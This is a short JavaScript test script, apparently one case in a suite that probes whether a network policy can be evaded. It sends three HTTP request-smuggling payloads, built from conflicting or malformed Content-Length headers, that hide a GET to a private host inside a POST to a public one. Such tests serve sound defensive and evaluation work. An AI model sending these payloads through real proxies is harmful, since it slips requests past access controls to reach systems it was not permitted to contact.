// technique: hides a request behind two lengths
// source: RFC 9112, section 6.3
// success: the permitted server got the token
// control: outside
// policy: network
// beside: origins
import { get, PRIVATE, PUBLIC, post, say } from './wire.mjs';

for (const request of [
  post(PUBLIC, 'Content-Length: 0\r\nContent-Length: 200\r\n', get(PRIVATE)),
  post(PUBLIC, 'Content-Length: 0, 200\r\n', get(PRIVATE)),
  post(PUBLIC, 'Content-Length: +0\r\n', get(PRIVATE)),
])
  await say(process.env.ALLOWED_HTTP, [request]);
